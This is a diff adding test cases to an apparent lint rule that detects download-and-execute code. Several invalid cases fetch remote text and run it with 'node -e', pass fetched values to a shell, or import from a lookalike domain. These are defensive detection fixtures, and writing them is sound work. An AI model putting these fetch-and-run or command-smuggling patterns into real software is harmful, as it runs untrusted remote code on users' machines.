@@ -45,6 +45,10 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    // what a known program takes as data; the types of a platform
+    { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url, dir]);' },
+    { code: 'import { execFileSync } from "node:child_process"; const { token } = await (await fetch("https://api.example-service.com/login")).json(); execFileSync("/usr/bin/security", ["add-generic-password", "-s", "app", "-w", token]);' },
+    { code: 'import { Context } from "https://edge.netlify.com"; export default (request: Request, context: Context) => context.next();', filename: 'edge.ts' },
     { code: 'import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); await import("./p.mjs");' },
     { code: 'import { createHash } from "node:crypto"; import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); check(createHash("sha256")); await import("./.cache/p.mjs");' },
     { code: 'import { writeFileSync } from "node:fs"; writeFileSync("./gen.mjs", render()); await import("./gen.mjs");' },
@@ -102,6 +106,11 @@ await ruleTester(rule, {
     js("const text = await (await fetch('https://api.acme.example/x')).text();\nfs.writeFileSync('out.txt', text);"),
   ],
   invalid: [
+    { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["extension", "install", url]);', errors: [{ messageId: 'download' }] },
+    { code: 'import { execFileSync } from "node:child_process"; const { verb } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", [verb, "clone"]);', errors: [{ messageId: 'download' }] },
+    { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url], { shell: true });', errors: [{ messageId: 'download' }] },
+    { code: 'import { execFileSync } from "node:child_process"; const code = await (await fetch("https://api.example-service.com/a")).text(); execFileSync("node", ["-e", code]);', errors: [{ messageId: 'download' }] },
+    { code: 'import { Context } from "https://edge.netlify.com.example-service.com"; use(Context);', errors: [{ messageId: 'module' }] },
     // a download that is written and then loaded
     { code: 'import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); await import("./.cache/p.mjs");', errors: [{ messageId: 'stepped' }] },
     { code: 'const fs = require("fs"); const r = await fetch("https://cdn.example-service.com/p.js"); fs.writeFileSync("cache.js", await r.text()); require("./cache.js");', errors: [{ messageId: 'stepped' }] },
